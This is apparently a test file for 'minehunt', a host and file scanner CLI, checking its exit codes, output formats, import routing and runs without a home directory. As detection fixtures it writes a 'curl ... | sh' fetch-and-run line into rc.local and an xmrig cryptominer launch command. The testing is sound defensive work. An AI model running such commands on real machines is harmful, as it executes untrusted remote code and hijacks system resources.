"""Exit codes and errors as the README documents them."""

from __future__ import annotations

import json
import os
import pwd
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from tests.conftest import run_cli


def test_usage_errors_exit_2_without_traceback(tmp_path: Path) -> None:
    for args in (
        ("scan", "--format", "yaml"),
        ("scan", "host", "--root", str(tmp_path / "missing")),
        ("scan", "--fail-on", "severe"),
        ("intel", "show", "nonsense"),
        ("intel", "update", "--from", str(tmp_path / "missing.txt")),
    ):
        r = run_cli(*args)
        assert r.code == 2, (args, r.stderr)
        assert "Traceback" not in r.stderr


def test_clean_tree_exits_0_and_findings_exit_1(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    assert run_cli("scan", "host", "--root", str(tmp_path), "-f", "json").code == 0
    (tmp_path / "etc/rc.local").write_text("#!/bin/sh\ncurl http://1.2.3.4/a.sh | sh\n")
    r = run_cli("scan", "host", "--root", str(tmp_path), "-f", "json")
    assert r.code == 1
    assert "1 at or above medium" in r.stderr
    # The same finding is below a higher threshold.
    assert run_cli("scan", "host", "--root", str(tmp_path), "--fail-on", "high").code == 0


def test_output_file_and_formats(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/rc.local").write_text("#!/bin/sh\ncurl http://1.2.3.4/a.sh | sh\n")
    out = tmp_path / "report.sarif"
    r = run_cli("scan", "host", "--root", str(tmp_path), "--format", "sarif", "--output", str(out))
    assert r.code == 1 and r.stdout == ""
    assert '"version": "2.1.0"' in out.read_text()


def test_version() -> None:
    r = run_cli("--version")
    assert r.code == 0 and r.stdout.startswith("minehunt ")


def _defining_modules(typer_app: object) -> set[str]:
    """Every cli module that registered a command, callback or subgroup of this app."""
    out: set[str] = set()
    cb = getattr(typer_app, "registered_callback", None)
    if cb is not None and cb.callback is not None:
        out.add(cb.callback.__module__.rsplit(".", 1)[1])
    for c in typer_app.registered_commands:  # type: ignore[attr-defined]
        out.add(c.callback.__module__.rsplit(".", 1)[1])
    for g in typer_app.registered_groups:  # type: ignore[attr-defined]
        out |= _defining_modules(g.typer_instance)
    return out


def test_every_command_line_imports_the_modules_that_define_its_command() -> None:
    from minehunt import cli

    app = cli.load()
    names: list[tuple[str, str | None]] = [(c.name, None) for c in app.registered_commands]
    needs: dict[tuple[str, str | None], set[str]] = {
        (c.name, None): {c.callback.__module__.rsplit(".", 1)[1]} for c in app.registered_commands
    }
    for g in app.registered_groups:
        sub = g.typer_instance
        needs[(g.name, None)] = _defining_modules(sub)
        names.append((g.name, None))
        for c in sub.registered_commands:
            needs[(g.name, c.name)] = {c.callback.__module__.rsplit(".", 1)[1]}
            names.append((g.name, c.name))
        for s in sub.registered_groups:
            needs[(g.name, s.name)] = _defining_modules(s.typer_instance)
            names.append((g.name, s.name))
    for group, sub in names:
        argv = [group] if sub is None else [group, sub]
        routed = set(cli._route([*argv, "x"]))
        assert needs[(group, sub)] <= routed, (argv, needs[(group, sub)], routed)
    # Every command has a narrow route: none falls back to importing every group.
    for group, sub in names:
        if (group, None) in cli.ROUTES or sub is not None:
            argv = [group] if (group, None) in cli.ROUTES or sub is None else [group, sub]
            assert set(cli._route([*argv, "x"])) != set(cli.GROUPS), argv


def test_a_capture_scan_does_not_import_the_server_or_the_agent() -> None:
    import subprocess
    import sys

    code = (
        "import sys; from minehunt import cli; cli.load(cli._route(['scan', 'pcap', 'f']));"
        "print(sorted(m for m in sys.modules if m.startswith(('minehunt.cli.', 'minehunt.server',"
        " 'minehunt.agent', 'fastapi', 'sqlalchemy', 'duckdb'))))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "['minehunt.cli.common', 'minehunt.cli.host', 'minehunt.cli.net']"


def test_help_still_lists_every_command_group() -> None:
    r = run_cli("--help")
    assert r.code == 0
    for name in ("scan", "watch", "intel", "agent", "respond", "router", "server", "blocklist"):
        assert name in r.stdout
    r = run_cli("scan", "--help")
    for name in ("pcap", "files", "url", "image", "router", "exposure", "logs"):
        assert name in r.stdout


def _uid_without_account() -> int:
    uid = 54321
    while True:
        try:
            pwd.getpwuid(uid)
        except KeyError:
            return uid
        uid += 1


def test_a_user_without_a_home_directory_scans_and_is_told_where_state_cannot_go() -> None:
    # A container run under an arbitrary uid: no passwd entry, no $HOME. Nothing can be
    # kept in a home directory (compiled rules, user intel, the server's database); scans
    # still run, and what must keep state says which variable to set.
    uid = _uid_without_account()
    where = Path(tempfile.mkdtemp(prefix="minehunt-nohome-"))
    try:
        where.chmod(0o755)
        (where / "miner.sh").write_text(
            "nohup ./xmrig -o stratum+tcp://203.0.113.5:3333 --donate-level 1 >/dev/null &\n"
        )
        env = {
            k: v
            for k, v in os.environ.items()
            if k not in ("HOME", "XDG_CACHE_HOME", "XDG_DATA_HOME")
            and not k.startswith("MINEHUNT_")
        }

        as_uid = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups"]

        def run(*args: str) -> subprocess.CompletedProcess[str]:
            return subprocess.run(
                [*as_uid, sys.executable, "-m", "minehunt", *args],
                env=env,
                cwd=where,
                capture_output=True,
                text=True,
                timeout=120,
            )

        scan = run("scan", "files", str(where), "-f", "json")
        assert scan.returncode == 1, scan.stderr
        assert "Traceback" not in scan.stderr
        assert json.loads(scan.stdout)["findings"]
        status = run("intel", "status")
        assert status.returncode == 0, status.stderr
        assert "user intel: none (no home directory" in status.stdout
        update = run("intel", "update", "--from", str(where / "miner.sh"))
        assert update.returncode == 2
        assert "set MINEHUNT_INTEL_DIR" in update.stderr and "Traceback" not in update.stderr
        # The fleet server's database has nowhere to go either: it says which to set.
        token = run("server", "token", "create", "web-01")
        assert token.returncode == 2
        assert "set MINEHUNT_DATA_DIR" in token.stderr and "Traceback" not in token.stderr
    finally:
        shutil.rmtree(where, ignore_errors=True)
